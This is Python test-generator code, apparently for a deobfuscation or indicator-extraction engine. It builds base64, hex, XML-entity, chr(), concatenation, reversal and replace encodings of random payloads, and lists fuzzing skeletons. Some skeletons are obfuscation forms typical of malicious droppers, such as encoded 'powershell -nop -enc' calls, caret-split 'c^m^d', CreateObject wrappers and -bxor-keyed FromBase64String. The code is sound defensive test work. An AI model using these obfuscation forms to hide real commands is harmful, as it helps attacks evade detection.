                                       f"{tree.first_diff(('', b'', '', 0, 0, tree.canon_children(inner)), ('', b'', '', 0, 0, tree.canon_children(fresh)))}; {desc}")
    if inner.children:
        counts["stacks_with_indicators_beneath"] = counts.get("stacks_with_indicators_beneath", 0) + 1
    if rec.get("glue"):
        # an undecoded result overlaps the expression partially: what flatten does with overlapping results is C19's subject
        counts["stacks_partially_overlapped_by_a_context"] = counts.get("stacks_partially_overlapped_by_a_context", 0) + 1
        return True
    # (d) flatten
    try:
        got = root.flatten()
    except RecursionError:
        return True
    want = expected_flatten(rec, rec["payload"])
    if got != want:
        report("layer:flatten", f"flatten gives {got[:160]!r}, expected the surroundings with the payload substituted: {want[:160]!r}; {desc}")
    for a, b in zip(layers, layers[1:]):
        counts["pair:" + a["name"] + ">" + b["name"]] = counts.get("pair:" + a["name"] + ">" + b["name"], 0) + 1
    return True


def _all(c):
    stack = [c]
    while stack:
        x = stack.pop()
        yield x
        stack.extend(x[5])


def judge_pair(rec1, rec2, md, report, counts, sep=b" ; "):
    """Two single-layer expressions with their own neutral surroundings in ONE text: each must be decoded as if it were
    alone (state carried from one match to the next inside a decoder, or from one decoder to another, shows here).
    Returns True if judged."""
    for rec in (rec1, rec2):
        if rec.get("wrap") or len(rec["layers"]) != 1:
            return False
        if not neutral(md, rec["prefix"] + b" " + rec["suffix"]):
            counts["discarded:surroundings-not-neutral"] = counts.get("discarded:surroundings-not-neutral", 0) + 1
            return False
        pc = tree.canon(md.scan(rec["payload"]))
        if not fr.all_identity(pc):
            counts["discarded:payload-has-decoded-node"] = counts.get("discarded:payload-has-decoded-node", 0) + 1
            return False
    # each expression alone must be found (else the single-expression cases report it; a pair adds nothing)
    for rec in (rec1, rec2):
        alone, _ = find_layer(md.scan(rec["data"]), rec["layers"][0], len(rec["prefix"]), len(rec["blob"]))
        if alone is None:
            counts["pairs_skipped_member_not_found_alone"] = counts.get("pairs_skipped_member_not_found_alone", 0) + 1
            return False
    data = rec1["data"] + sep + rec2["data"]
    root = md.scan(data)
    global last_root
    last_root = root
    counts["pairs_judged"] = counts.get("pairs_judged", 0) + 1
    base2 = len(rec1["data"]) + len(sep)
    for which, rec, base in (("first", rec1, 0), ("second", rec2, base2)):
        lay = rec["layers"][0]
        off, length = base + len(rec["prefix"]), len(rec["blob"])
        node, why = find_layer(root, lay, off, length)
        if node is None:
            if swallowed_by(root, off, off + length, same=((lay["type"], lay["label"]),)) is not None:
                counts["discarded:blob-plus-neighbour-text-is-another-decoding"] = counts.get("discarded:blob-plus-neighbour-text-is-another-decoding", 0) + 1
                continue
            other = rec2 if rec is rec1 else rec1
            report(f"pair:{which}:{lay['name']}:with:{other['layers'][0]['name']}",
                   f"{lay['name']} expression found when alone in the text but not as the {which} of two expressions "
                   f"({rec1['layers'][0]['name']} then {rec2['layers'][0]['name']}): {why}; input {data[:160]!r}")
    return True
