"""Completeness workloads of C13 / C14 / C15: single encodings with ground truth by construction,
aimed at the boundary of every documented acceptance rule (only the accepted side is asserted)."""

from __future__ import annotations

import base64

import re

from vf.gens import layers, netgen


DOCUMENTED_CALLS = [b"strreverse(", b"reverse(", b"reversed(", b"replace(", b"atob(", b"base64decode(", b"frombase64string(", b"fromhexstring(",
                    b"chr(", b"chrw(", b"chrb(", b"unescape(", b"createobject("]
OPERATOR_LITERAL = re.compile(rb"""(["'])[\s_]*(?:&amp;|&|\+)[\s_]*\1""")

WRAPS = [(b"CreateObject(", b")"), (b"createobject( ", b" )"), (b"x = CreateObject(", b") ;"),
         # two nested undecoded contexts, the outer one at a positive offset, and enough text after the blob inside the inner one
         (b"CreateObject( CreateObject( ", b" zq zq zq zq zq zq zq zq zq zq zq zq zq zq zq zq ) )"),
         (b"createobject(createobject(createobject(", b" qz qz qz qz qz qz qz qz qz qz qz qz qz qz qz)))")]


def rec_single(r, name, type_, label, blob, plain, delims=(b" ", b" "), value=None, wrap_p=0.15):
    prefix = netgen.offsets_prefix(r)
    dl, dr = delims
    wrap = None
    if delims == (b" ", b" ") and r.random() < wrap_p and blob.count(b"(") == blob.count(b")") and b"\x00" not in blob:
        # inside an undecoded context at a positive offset (results get re-based by the engine there)
        wrap = r.choice(WRAPS)
        dl, dr = b" " + wrap[0], wrap[1] + b" "
    glue = None
    ident_glue = False
    if wrap is None and delims == (b" ", b" ") and re.match(rb"[A-Za-z]{3,}\(", blob) and r.random() < 0.08:
        # an undecoded indicator that ends INSIDE the expression (a path whose last component runs into the call name):
        # the two overlap partially, so neither contains the other and both are results of the enclosing text
        glue = r.choice([b"/usr/share/", b"./lib/scripts/", b"C:\\dir\\sub\\", b"\\\\host\\share\\", b"../aaa/"])
        dl = b" " + glue
    if glue is None and wrap is None and delims == (b" ", b" ") and re.match(rb"[A-Za-z]{3,}\(", blob) and r.random() < 0.06:
        # letters glued in front of the call name (StrReversed(, myatob(, xchr(): the patterns have no word boundary there
        g = r.choice([b"Str", b"str", b"x", b"my", b"Un", b"_", b"9"])
        joined = (g + blob[:40]).lower()
        if not any(0 <= joined.find(name) < len(g) for name in DOCUMENTED_CALLS):
            # (letters that would spell another documented call name together with this one - Str + reverse( - are left out)
            dl = b" " + g
            ident_glue = True
    if prefix.endswith(b" ") and dl[:1] == b" ":
        prefix = prefix[:-1]
    if r.random() < 0.07 and not OPERATOR_LITERAL.search(blob):
        # (not next to a literal that is itself a bare joining operator - the property's own exclusion: the lone quote would
        # pair with that literal's quote and chain unrelated text)
        # a lone quote character earlier in the text (apostrophe, inch mark, comment marker) is neutral text too
        prefix = r.choice([b"it's ", b'5" wide ', b"' comment\n", b'say " ', b"rock'n'roll ", b"'"]) + prefix
    suffix = netgen.neutral_text(r)
    if dr == b" " and not suffix:
        dr = b""
    rec = {"data": prefix + dl + blob + dr + suffix, "prefix": prefix + dl, "suffix": dr + suffix, "blob": blob, "payload": plain,
           "layers": [{"name": name, "type": type_, "label": label, "plain": plain, "value": plain if value is None else value, "inner_off": 0}]}
    if wrap:
        rec["wrap"] = True
    elif glue:
        rec["wrap"] = True
        rec["glue"] = True
    elif r.random() < 0.2:
        rec["decoy"] = True
    if ident_glue:
        rec["strict"] = True  # by the documented syntax nothing around the expression can combine with it
    return rec


def from_encoder(r, enc_name, payload):
    e = layers.BY_NAME[enc_name]
    if not e.dom(payload):
        return None
    blob = e.enc(payload, r)
    if blob is None:
        return None
    return rec_single(r, e.name, e.type, e.label, blob, payload, e.delims, e.value_prefix + payload)


def rand_payload(r, n, alpha=None):
    alpha = alpha or r.choice([bytes(range(256)), b"abcdefghijklmnopqrstuvwxyz ", bytes(range(32, 127)), b"\x00\xff\x80\x7fAz09"] * 3
                              # degenerate contents are payloads too: white space only, NULs only, one repeated byte
                              + [b" \t\r\n\x0b\x0c", b" ", b"\x00", b"\n", bytes([r.randrange(256)])])
    return bytes(r.choice(alpha) for _ in range(n))


# -- C13 ---------------------------------------------------------------------

B64_ENC = layers.BY_NAME["b64"]


def c13_case(r):
    k = r.randrange(13)
    if k == 0:  # every length / padding form through the call forms
        p = rand_payload(r, r.randint(1, 64))
        rec = from_encoder(r, r.choice(["atob", "Base64Decode", "FromBase64String"]), p)
        if rec is not None and r.random() < 0.3:
            # an undecodable call of the same form elsewhere in the text must not affect this one
            junk = {"atob": b" atob('QUI') ", "Base64Decode": b' Base64Decode("Q") ', "FromBase64String": b" FromBase64String('QUJDR') "}[rec["layers"][0]["name"]]
            if r.random() < 0.5:
                rec["suffix"] = rec["suffix"] + junk
                rec["data"] = rec["data"] + junk
            else:
                rec["prefix"] = junk + rec["prefix"]
                rec["data"] = junk + rec["data"]
        return rec
    if k == 1:  # bare base64, all residues mod 3, random content
        p = rand_payload(r, r.randint(16, 80))
        return from_encoder(r, "b64", p)
    if k == 2:  # exactly 22 alphabet characters (16 bytes) / 24 characters
        p = rand_payload(r, r.choice([16, 17, 18]))
        return from_encoder(r, "b64", p)
    if k == 3:  # exactly 7 distinct characters in the encoded text
        for _ in range(50):
            alpha = bytes(r.sample(range(256), 3))
            p = bytes(r.choice(alpha) for _ in range(r.choice([18, 18, 16, 17, 19, 20])))  # padded forms: '=' counts as a character
            t = base64.b64encode(p)
            if len(set(t)) == 7 and B64_ENC.dom(p):
                return from_encoder(r, "b64", p)
        return None
    if k == 4:  # slash ratio just below 3/32
        for _ in range(50):
            p = rand_payload(r, 24, bytes(range(256)))
            t = base64.b64encode(p)
            if 0 < t.count(b"/") / len(t) <= 3 / 32 and B64_ENC.dom(p):
                return from_encoder(r, "b64", p)
        return None
    if k == 11 and r.random() < 0.5:  # the same bare encoding twice, the inner text being the whole value of the outer node
        p = rand_payload(r, r.randint(16, 40), bytes(range(32, 127)))
        name = r.choice(["b64", "hex", "HEX"])
        e = layers.BY_NAME[name]
        inner = e.enc(p, r)
        if not e.dom(p) or not e.dom(inner):
            return None
        outer = e.enc(inner, r)
        rec = rec_single(r, name, e.type, e.label, outer, inner, wrap_p=0)
        rec["layers"].append({"name": name, "type": e.type, "label": e.label, "plain": p, "value": p, "inner_off": 0})
        rec["payload"] = p
        return rec
    if k == 12:  # boundary of the "not pure hex" rule: hex digits plus a single sign / prefix character
        n = r.choice([24, 28, 32])
        head = r.choice([b"+", b"0x", b"0X", b"+0x", b"-"[:0] + b"/", b"x"])
        hexchars = b"0123456789abcdef" if r.random() < 0.5 else b"0123456789ABCDEF"
        t = head + bytes(r.choice(hexchars) for _ in range(n - len(head)))
        p = base64.b64decode(t)
        if base64.b64encode(p) != t or not B64_ENC.dom(p):
            return None
        return rec_single(r, "b64-hexlike", "", "encoding.base64", t, p)
    if k == 5:  # line-broken base64
        p = rand_payload(r, r.randint(30, 120))
        if not B64_ENC.dom(p):
            return None
        t = base64.b64encode(p)
        brk = r.choice([b"\n", b"\r\n", b"&#13;&#10;", b"&#xD;&#10;", b"&#xD;&#xA;", b"&#xA;", b"&#13;", b"&#10;\n", b"<\x00  \x00", b"&#xD;&#xA;\r\n"])
        width = r.choice([8, 16, 20, 64])
        chunks = [t[i:i + width] for i in range(0, len(t), width)]
        if len(chunks[-1].rstrip(b"=")) < 2 or any(len(c.rstrip(b"=")) < 4 for c in chunks[:-1]):
            return None
        blob = brk.join(chunks)
        delims = (b" ", b" ")
        if r.random() < 0.25:
            # wrapped text as the argument of a call: the call forms do not accept line breaks, the bare rule still applies
            delims = r.choice([(b" atob('", b"') "), (b' Base64Decode("', b'") '), (b" FromBase64String('", b"' + x) "), (b' atob("', b'" + tail) ')])
        return rec_single(r, "b64-linebroken", "", "encoding.base64", blob, p, delims)
    if k == 6:  # hex, lower / upper, 10 / 11 pairs and longer
        p = rand_payload(r, r.choice([10, 11, 12, 30]))
        return from_encoder(r, r.choice(["hex", "HEX"]), p)
    if k == 7:  # upper-case hex whose text starts with 18 / 20 / 22 / 30 digits
        nd = r.choice([9, 10, 11, 15])
        head = bytes(int(f"{r.randrange(10)}{r.randrange(10)}", 16) for _ in range(nd))
        tail = bytes(r.choice([0xAB, 0xCD, 0xEF, 0x1A, 0xF0, 0x9C]) for _ in range(r.randint(1, 12)))
        p = head + tail
        if len(p) < 10:
            return None
        return from_encoder(r, "HEX", p)
    if k == 8:  # FromHexString call form
        return from_encoder(r, "FromHexString", rand_payload(r, r.randint(10, 40)))
    if k == 9:  # lower-case hex starting with digits
        head = bytes(int(f"{r.randrange(10)}{r.randrange(10)}", 16) for _ in range(r.choice([9, 10, 12])))
        p = head + bytes(r.choice([0xab, 0xcd, 0xef, 0x1a]) for _ in range(r.randint(1, 8)))
        return from_encoder(r, "hex", p) if len(p) >= 10 else None
    if k == 10:  # byte arrays
        return from_encoder(r, "psbytes", rand_payload(r, r.randint(501, 700)))
    p = rand_payload(r, r.randint(1, 2048))
    return from_encoder(r, r.choice(["atob", "FromBase64String", "FromHexString"]), p) if len(p) >= 10 else None


def c13_xor_case(r):
    """-bxor K next to FromBase64String / FromHexString / a byte array: returns (data, payload, key, form)."""
    key = r.choice([r.randrange(1000), r.randrange(256), r.randrange(1, 256)])
    form = r.choice(["b64", "hex", "bytes"])
    n = r.randint(10, 60) if form != "bytes" else r.randint(501, 600)
    if r.random() < 0.04:
        n = r.choice([4095, 4096, 4097, 9000, 70000]) if form != "bytes" else r.choice([4096, 5000])  # beyond any block size
    p = rand_payload(r, n)
    if r.random() < 0.3:
        p = bytes([key & 0xFF]) + p[1:]  # first byte equal to the key: leading zero in the result
    if form == "b64":
        blob = layers.BY_NAME["FromBase64String"].enc(p, r)
    elif form == "hex":
        blob = layers.BY_NAME["FromHexString"].enc(p, r)
    else:
        blob = layers.BY_NAME["psbytes"].enc(p, r)
    keytext = str(key).encode()
    if key < 100 and r.random() < 0.15:
        keytext = keytext.rjust(3, b"0")  # up to three digits, leading zeros included
    tail = r.choice([b" -bxor ", b" -bxor", b" -xor ", b" -BXOR ", b" -bxor\t", b"\n-bxor\n", b" -Xor  "]) + keytext
    pre = netgen.offsets_prefix(r)
    if form != "bytes" and r.random() < 0.35:
        # the key applies to every conversion call in the text: a second call of the other form, same payload
        other = layers.BY_NAME["FromHexString" if form == "b64" else "FromBase64String"].enc(p, r)
        blob = blob + b" ; " + other
        if r.random() < 0.4:
            # a third conversion of the first form with a payload of another length (not asserted by construction: every
            # node in the result is still judged by the soundness monitors and by the tree-shape checks)
            q = rand_payload(r, r.choice([4, 11, 90]))
            blob = layers.BY_NAME["FromBase64String" if form == "b64" else "FromHexString"].enc(q, r) + b" ; " + blob if len(q) >= 10 or form == "b64" else blob
    data = (pre + blob + tail) if r.random() < 0.8 else (pre + tail.strip() + b" ; " + blob)
    return data, p, key, form


# -- C14 ---------------------------------------------------------------------


def c14_case(r):
    k = r.randrange(8)
    if k == 0:  # all byte values, decimal / hex / mixed, runs of 5 / 6 / more
        p = rand_payload(r, r.choice([5, 6, 7, 20]), bytes(range(256)))
        rec = from_encoder(r, r.choice(["xmldec", "xmlhex", "xmlmix"]), p)
        if rec is not None and not rec.get("wrap") and r.random() < 0.12:
            # glued between words from the base64 alphabet that are not base64 by the documented rules (letters only)
            e = layers.BY_NAME[rec["layers"][0]["name"]]
            front = bytes(r.choice(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(r.choice([20, 24, 28, 40])))
            back = r.choice([b"Zm9v", b"x9Qz", b"QUJDMTIz", b"ab12", b"7xY0", b"ab", b"abcd"])
            rec = rec_single(r, e.name, e.type, e.label, rec["blob"], p, (b" " + front, back + b" "), wrap_p=0)
            rec["strict"] = True  # only line-break references may sit inside base64 text: the words cannot absorb the run
            return rec
        if rec is not None and not rec.get("wrap") and r.random() < 0.3:
            # a reference outside 0..255 right next to the run does not belong to it
            e = layers.BY_NAME[rec["layers"][0]["name"]]
            nb = r.choice([b"&#256;", b"&#999;", b"&#300;", b"&#xzz;"])
            side = r.random() < 0.5
            rec = rec_single(r, e.name, e.type, e.label, rec["blob"], p, (b" " + nb, b" ") if side else (b" ", nb + b" "), wrap_p=0)
        return rec
    if k == 1:  # leading zeros in decimal references
        p = rand_payload(r, r.randint(5, 10), bytes(range(256)))
        blob = b"".join((b"&#%03d;" % c) if r.random() < 0.5 and c < 200 else (b"&#X%02x;" % c) if r.random() < 0.2 else (b"&#%d;" % c) for c in p)
        return rec_single(r, "xml-leading-zero", "", "unescape.xml", blob, p)
    if k == 2:  # hex bytes spelling decimal references (must be decoded once only)
        inner = b"&#%d;" % r.randrange(256)
        p = inner + rand_payload(r, r.randint(0, 3), b"ab")
        if len(p) < 5:
            p += b"zz"
        return from_encoder(r, "xmlhex", p)
    if k == 3:
        p = rand_payload(r, r.randint(1, 40), bytes(range(256)))
        return from_encoder(r, "unescape", p)
    if k == 4:  # unescape with malformed escapes kept literally
        arg = b"".join(r.choice([b"%41", b"%", b"%4", b"%zz", b"a", b"%2f", b"%00", b"%FF", b"+", b" ", b"%u0041", b"%25u2713", b"u0041", b"%25", b"%uD800", b"%udc00", b"%uD83D%uDE00", b"%u9090%uD9EB"]) for _ in range(r.randint(1, 10)))
        from vf.refs import neturl
        plain = neturl.decode(arg)
        if not plain:
            return None
        return rec_single(r, "unescape-raw", "string", "function.unescape", b"unescape('" + arg + b"')", plain)
    if k == 5:  # utf-16 runs of 7 / 8 / more, full allowed Latin-1 set
        allowed = [c for c in range(256) if not (c <= 8 or 0x0E <= c <= 0x1F or 0x7F <= c <= 0x9F)]
        chars = bytes(r.choice(allowed) for _ in range(r.choice([7, 8, 9, 30])))
        blob = chars.decode("latin-1").encode("utf-16-le")
        plain = chars.decode("latin-1").encode("utf-8")
        # also right behind byte pairs that read as a byte-order mark
        if r.random() < 0.25:
            # several runs joined by one or two NUL characters are one expression
            second = bytes(r.choice(allowed) for _ in range(r.choice([7, 8, 12])))
            gap = r.choice([b"\x00", b"\x00\x00"])
            chars = chars + gap + second
            blob = chars.decode("latin-1").encode("utf-16-le")
            plain = chars.decode("latin-1").encode("utf-8")
        delims = r.choice([(b" ", b" "), (b" ", b" "), (b"\xff\xfe", b" "), (b"\xfe\xff", b" "), (b"\xff", b"\xff"), (b"\x01\x02", b"\x03")])
        return rec_single(r, "utf16-latin1", "", "codec.uft-16", blob, plain, delims)
    if k == 6:
        p = rand_payload(r, r.randint(7, 40), bytes(range(32, 127)))
        return from_encoder(r, "utf16", p)
    # chr / chrw / chrb
    cp = r.choice([r.randrange(0, 301), r.randrange(0xD7F0, 0xE010), 65535, 65536, 99999, r.randrange(100000)])
    spelling = r.choice([b"chr", b"Chr", b"CHRW", b"chrw", b"ChrB", b"chrb"])
    digits = (b"0" * r.choice([0, 0, 1, 3])) + str(cp).encode()
    if len(str(cp)) > 5:
        return None
    blob = spelling + b"(" + digits + b")"
    try:
        plain = chr(cp).encode("utf-8")
    except UnicodeEncodeError:
        return {"absent": True, "data": netgen.offsets_prefix(r) + blob + b" " + netgen.neutral_text(r), "blob": blob, "label": "function.chr"}
    return rec_single(r, "chr", "string", "function.chr", blob, plain)


def c14_utf16_pair(r):
    """Two wide runs separated by 1, 3 or 5 NUL bytes (the second run is not aligned with the first): two expressions."""
    allowed = bytes(range(0x21, 0x7F))
    a = bytes(r.choice(allowed) for _ in range(r.choice([7, 8, 12])))
    b = bytes(r.choice(allowed) for _ in range(r.choice([7, 9, 12])))
    gap = b"\x00" * r.choice([1, 3, 5])
    ra = a.decode("latin-1").encode("utf-16-le")
    rb = b.decode("latin-1").encode("utf-16-le")
    return a, b, b"zq " + ra + gap + rb + b" qz", 3, 3 + len(ra) + len(gap)


def c14_chr_sequence(r):
    """Several chr calls in one text, some unencodable: every encodable one must still be reported."""
    cps = [r.choice([r.randrange(32, 300), r.randrange(0xD800, 0xE000), r.randrange(0x400, 0x500)]) for _ in range(r.randint(2, 6))]
    parts = [r.choice([b"chr(", b"ChrW(", b"chrb("]) + str(c).encode() + b")" for c in cps]
    return cps, parts, b" & ".join(parts)


# -- C15 ---------------------------------------------------------------------

LIT_ALPHA = bytes(c for c in range(0x20, 0x7F) if c not in b"\"'\\`")


def literal(r, lo=0, hi=12):
    n = r.randint(lo, hi)
    alpha = r.choice([LIT_ALPHA, b"abAB", b"aaab", b"xX-_/.:+& ", b"abcdefgXYZ019"])
    out = bytes(r.choice(alpha) for _ in range(n))
    if n >= 2 and r.random() < 0.15:
        # text that looks like a joining operator or an XML entity inside the literal is still literal text
        pos = r.randrange(1, len(out))
        out = out[:pos] + r.choice([b"&amp;", b"&amp;amp;", b"&lt;", b" + ", b"&", b"_"]) + out[pos:]
    return out


def c15_case(r):
    k = r.randrange(8)
    if k == 0:  # concatenation chains
        n = r.randint(2, 6)
        parts = [literal(r) for _ in range(n)]
        if any(not layers.not_operator(p) for p in parts):
            return None
        plain = b"".join(parts)
        if not plain:
            return None
        out = b""
        for i, p in enumerate(parts):
            q = r.choice([b'"', b"'"])
            if i:
                out += r.choice([b"&amp;", b" _\n + _\n ", layers.spacer(r), layers.spacer(r)])
            out += q + p + q
        tail = r.choice([b"", b"", b" + y", b" & zzq", b";", b")", b" &", b" + chr", b"+y"])
        rec = rec_single(r, "concat", "string", "concatenation", out, plain)
        if tail:
            rec["data"] = rec["prefix"] + out + tail + b" " + rec["suffix"].lstrip()
            rec["suffix"] = tail + b" " + rec["suffix"].lstrip()
        return rec
    if k in (1, 2):  # reversal
        p = literal(r, 1, 12)
        q = r.choice([b'"', b"'"])
        if k == 1:
            head = bytes(c ^ 0x20 if r.random() < 0.3 and chr(c).isalpha() else c for c in r.choice([b"reverse(", b"reversed("]))
            return rec_single(r, "reverse", "string", "reverse", head + layers.pad(r) + q + p[::-1] + q + layers.pad(r) + b")", p)
        head = bytes(c ^ 0x20 if r.random() < 0.3 and chr(c).isalpha() else c for c in b"StrReverse(")
        return rec_single(r, "StrReverse", "vba.string", "vba.reverse", head + layers.pad(r) + q + p[::-1] + q + layers.pad(r) + b")", p)
    # replacement dialects
    x = literal(r, 1, 14)
    a = r.choice([literal(r, 1, 3), x[r.randrange(len(x)):][:r.randint(1, 3)] or b"a", b"aa", x[:1].swapcase() or b"a"])
    b = r.choice([literal(r, 0, 3), b"", a + a, b"X" + a])
    if not a:
        return None
    plain = x.replace(a, b)
    if not plain:
        return None
    q1, q2, q3 = (r.choice([b'"', b"'"]) for _ in range(3))
    ws = lambda: layers.pad(r)  # noqa: E731
    if k == 3:
        blob = q1 + x + q1 + b".replace(" + ws() + q2 + a + q2 + ws() + b"," + ws() + q3 + b + q3 + ws() + b")"
        return rec_single(r, "replace", "string", "replace", blob, plain)
    if k == 4:
        blob = r.choice([b"Replace(", b"replace(", b"REPLACE("]) + ws() + q1 + x + q1 + ws() + b"," + ws() + q2 + a + q2 + ws() + b"," + ws() + q3 + b + q3 + ws() + b")"
        return rec_single(r, "vbareplace", "vba.string", "vba.replace", blob, plain)
    if k == 5:
        blob = q1 + x + q1 + ws() + r.choice([b"-replace", b"-Replace", b"-REPLACE"]) + ws() + q2 + a + q2 + ws() + b"," + ws() + q3 + b + q3
        return rec_single(r, "psreplace", "powershell.string", "replace", blob, plain)
    if set(a) & set(b"/[](){}\\.+*?^$,"):
        return None
    blob = q1 + x + q1 + b".replace(/" + a + b"/" + r.choice([b"", b"g", b"gi", b"gim"]) + ws() + b"," + ws() + q3 + b + q3 + ws() + b")"
    return rec_single(r, "jsrereplace", "javascript.string", "replace", blob, plain)


# -- size limits -------------------------------------------------------------
# Lengths beyond every plausible hard-coded limit (command-line length 8191, MAX_PATH 260, 64 KiB, ...): an expression is
# one unit whatever its length.

BIG_SIZES = [3000, 8200, 20000, 66000, 140000]


def big_text(r, n, alpha=None):
    if alpha is not None:
        return bytes(r.choice(alpha) for _ in range(n))
    out = bytearray()
    while len(out) < n:
        out += r.choice(netgen.NEUTRAL_WORDS) + b" "
    return bytes(out[:n - 1]) + b"q"


def big_cases(pid, r, sizes=None):
    """Endless stream of (form, size, rec-or-None)."""
    sizes = sizes or BIG_SIZES
    forms = {"C13": ["b64", "atob", "Base64Decode", "FromBase64String", "hex", "HEX", "FromHexString", "psbytes", "b64-linebroken"],
             "C14": ["xmldec", "xmlhex", "xmlmix", "unescape", "utf16"],
             "C15": ["concat-many", "concat-long", "reverse", "StrReverse", "replace", "vbareplace", "psreplace", "jsrereplace"]}[pid]
    while True:
        for form in forms:
            for n in sizes:
                yield form, n, _big_one(r, form, n)


def _big_one(r, form, n):
    if form == "psbytes":
        p = big_text(r, max(501, n // 4))
        e = layers.BY_NAME["psbytes"]
        return rec_single(r, e.name, e.type, e.label, e.enc(p, r), p, wrap_p=0)
    if form == "b64-linebroken":
        p = big_text(r, n)
        t = base64.b64encode(p)
        width = r.choice([64, 76])
        chunks = [t[i:i + width] for i in range(0, len(t), width)]
        if len(chunks[-1].rstrip(b"=")) < 4:
            return None
        return rec_single(r, "b64-linebroken", "", "encoding.base64", r.choice([b"\n", b"\r\n", b"&#xD;&#xA;"]).join(chunks), p, wrap_p=0)
    if form in ("concat-many", "concat-long"):
        k = max(2, n // 12) if form == "concat-many" else r.randint(2, 4)
        size = 8 if form == "concat-many" else n // k
        parts = [big_text(r, size) for _ in range(k)]
        out = b""
        for i, part in enumerate(parts):
            q = r.choice([b'"', b"'"])
            if i:
                out += layers.spacer(r)
            out += q + part + q
        return rec_single(r, "concat", "string", "concatenation", out, b"".join(parts), wrap_p=0)
    if form in layers.BY_NAME:
        e = layers.BY_NAME[form]
        p = big_text(r, n if form not in ("xmldec", "xmlhex", "xmlmix") else n // 5)
        if not e.dom(p):
            return None
        blob = e.enc(p, r)
        if blob is None:
            return None
        return rec_single(r, e.name, e.type, e.label, blob, p, e.delims, e.value_prefix + p, wrap_p=0)
    raise ValueError(form)
