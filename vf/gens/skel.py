"""G-skel: trigger skeleton x exhaustive small-alphabet tails (budgeted)."""

from __future__ import annotations

import itertools

from vf.gens import base

A_CMD = [b"^", b'"', b"\r", b"\n", b"(", b")", b"a", b" "]
A_ENC = [b"^", b"\r", b"\n", b'"', b"A", b"=", b" ", b"'"]

# (name, prefix, alphabet, suffix)
SKELETONS = [
    ("cmd", b"cmd /c x ", A_CMD, b""),
    ("cmd-paren", b"(cmd /c ", A_CMD, b") z"),
    ("cmd-caret", b"c^m^d", [b"^", b'"', b"\r", b"\n", b" ", b"/", b"c", b"\x00"], b""),
    ("cmd-quoted", b'"cmd.exe"', A_CMD, b""),
    ("ps-enc", b"powershell/e", A_ENC, b"AAAA"),
    ("ps-enc2", b"powershell -e", A_ENC, b"ZQBj"),
    ("ps-enc3", b"x;powershell -nop -enc ", [b"Z", b"Q", b"B", b"j", b"=", b"^", b'"', b"'"], b""),
    ("ps-quote", b"x 'powershell ", [b"'", b'"', b"(", b")", b"a", b" ", b"-", b"^"], b""),
    ("ps-for", b"for /f %i in ('powershell ", [b"'", b")", b"(", b"a", b" ", b"-", b"^", b'"'], b""),
    ("ps-bare", b"run; pwsh ", [b"-", b"/", b"e", b"n", b"c", b" ", b"A", b"^"], b" QUJD"),
    ("xml", b"&#x41;&#65;&#x42;&#66;&#", [b"x", b"4", b"1", b"z", b";", b"&", b"#", b"2", b"5", b"6"], b""),
    ("xml2", b"&#x41;&#65;&#x42;", [b"&#x4a;", b"&#xzz;", b"&#256;", b"&#099;", b"&#0;", b"&#xG1;", b"&#255;", b"&#x0;", b"&#;"], b""),
    ("chr", b"chr(", [b"0", b"1", b"5", b"9", b"6", b"2", b"3"], b")"),
    ("chrw", b"ChrW(", [b"0", b"5", b"6", b"d", b" ", b")", b"("], b")"),
    ("unescape", b"unescape('", [b"%", b"4", b"1", b"z", b"'", b"a", b"u", b")"], b"')"),
    ("atob", b'atob("', [b"A", b"=", b"/", b"+", b"Z", b'"', b"g"], b'")'),
    ("b64dec", b"Base64Decode('", [b"A", b"=", b"/", b"Q", b"'", b"b"], b"')"),
    ("fromb64", b"FromBase64String('ZHVj", [b"a", b"w", b"=", b"'", b")", b" ", b"-"], b"') -bxor 7"),
    ("fromhex", b"FromHexString('61616161616161616161", [b"a", b"A", b"1", b"g", b"'", b")", b"6"], b"')"),
    ("hexbare", b"x 6162636465666768696", [b"a", b"A", b"1", b"F", b"f", b"0", b" "], b""),
    ("hexupper", b"x 1234567890123456789", [b"0", b"A", b"a", b"F", b"9", b" "], b"ABCDEFABCDEF"),
    ("b64bare", b"QUJDREVGR0hJSktMTU5PUFFS", [b"A", b"=", b"\n", b"\r", b"/", b"&#13;", b"<\x00  \x00", b"z"], b""),
    ("url-host", b"http://", [b"a", b".", b"%", b"4", b"1", b"@", b":", b"[", b"]", b"/"], b""),
    ("url-tail", b"http://a.com", [b"/", b".", b"%", b"2", b"f", b"?", b"#", b":"], b""),
    ("url-ctx", b"('http://a.com/", [b"'", b")", b"(", b".", b",", b";", b"a"], b""),
    ("url-pascal", b"\x01\x02\x0dhttp://a.com/", [b"0", b"a", b"/", b".", b"\x00"], b"00000000000"),
    ("ip", b" ", [b"1", b".", b"0", b"x", b"9", b"2", b"5"], b" "),
    ("unc", b"\\\\?\\UNC\\", [b"a", b".", b"\\", b"1", b"@", b"$", b"c"], b"\\aaa\\bbb"),
    ("unc2", b"\\\\", [b"a", b".", b"\\", b"1", b"@", b"?", b"S"], b"\\aaa\\bbb.exe"),
    ("winpath", b"C:\\aaa\\", [b".", b"\\", b"a", b"b", b"-"], b""),
    ("utf16", b"h\x00e\x00l\x00l\x00o\x00w\x00", [b"a", b"\x00", b"\x80", b"\x1f", b"\xe9", b"\n"], b""),
    ("concat", b'"a" ', [b"+", b"&", b'"', b"'", b"a", b"_", b" ", b"\\"], b""),
    ("replace", b'"abc".replace(', [b'"', b"a", b",", b")", b"/", b"g", b" "], b""),
    ("psreplace", b"'abc' -replace ", [b"'", b'"', b"a", b",", b" ", b"b"], b""),
    ("reverse", b"StrReverse(", [b'"', b"'", b"a", b")", b" ", b"`"], b""),
    ("createobject", b"CreateObject(", [b"(", b")", b'"', b"a", b"<"], b""),
    ("email", b"abc@", [b"a", b".", b"c", b"o", b"m", b"-", b"@"], b" "),
    ("domain", b" ", [b"a", b".", b"c", b"o", b"m", b"-", b"0"], b"0"),
    ("posix", b"/", [b"a", b"/", b".", b"_"], b""),
    ("mz", b"MZ" + b"\x00" * 58 + b"\x40\x00\x00\x00PE\x00\x00", [b"\x00", b"\x4c", b"\x01", b"\xff", b"\x0b", b"\xe0"], b"\x00" * 64),
]

EMBED = [(b"", b""), (b"zz ", b" yy")]


def plan(budget_per_skeleton: int):
    """-> list of (skeleton index, exhaustive length L, number of sampled longer tails)."""
    out = []
    for i, (_, _, alpha, _) in enumerate(SKELETONS):
        L = 0
        while base.count_tails(len(alpha), L + 1) <= budget_per_skeleton:
            L += 1
        extra = max(0, budget_per_skeleton - base.count_tails(len(alpha), L)) // 2
        out.append((i, L, extra))
    return out


def cases(idx: int, L: int, extra: int, r):
